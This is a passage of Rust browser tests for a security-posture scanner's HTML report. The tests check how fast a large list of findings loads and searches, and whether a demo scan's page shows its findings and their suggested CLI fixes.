        "location.hash.includes('q=webhook') && document.querySelector('.list .head mark')",
    );
    let searched = started.elapsed();
    let found = count(&mut browser);
    assert!(found > 0 && found < 100_000, "{found}");
    browser.wait_for("!document.getElementById('progress').textContent");
    let deep = started.elapsed();
    let (mut middle, mut number) = (None, 0);
    source
        .each(&mut |finding| {
            if number == 54_321 {
                middle = Some(finding.clone());
            }
            number += 1;
            Ok(())
        })
        .unwrap();
    open_finding(&mut browser, &middle.unwrap());
    browser.press("Escape");
    browser.go("#findings?group=none");
    browser.evaluate("scrollTo(0, document.body.scrollHeight / 2)");
    browser.settle();
    let rows = browser.number("document.querySelectorAll('.list .row').length");
    assert!((10.0..200.0).contains(&rows), "{rows} rows");
    // Told, not asserted: it depends on the machine and on what else it does.
    println!(
        "100,000 findings, {size} bytes: the list after {loaded:.2?}, a search typed and shown after {searched:.2?}, the evidence searched too after {deep:.2?}"
    );
    assert_eq!(browser.misdeeds(), Vec::<String>::new());
}

/// The page of a real scan, as the program writes it.
#[test]
fn the_demo_in_a_browser() {
    let Some(demo) = demo() else { return };
    let Some(mut browser) = Browser::start() else {
        return;
    };
    let path = work_dir().join("demo.html");
    Posture::new(["evaluate", "-o"])
        .args([format!("html={}", path.display())])
        .args([&demo.snapshot])
        .run()
        .code(3);
    browser.open(&url(&path));
    let text = browser.text("document.body.innerText");
    for part in ["Do this first", "management", "prod", "Incomplete."] {
        assert!(text.contains(part), "{part} is not in {text}");
    }
    browser.go("#findings");
    let findings = demo.report["findings"].as_array().unwrap();
    assert_eq!(count(&mut browser), findings.len());
    let id = findings[0]["id"].as_str().unwrap();
    browser.go(&format!("#{id}"));
    browser.wait_for("document.querySelector('.sheet .evidence')");
    let cli = findings[0]["fix"]["cli"].as_str().unwrap();
    assert!(
        browser
            .text("document.querySelector('.sheet').innerText")
            .contains(cli)
    );
    assert_eq!(browser.misdeeds(), Vec::<String>::new());
}
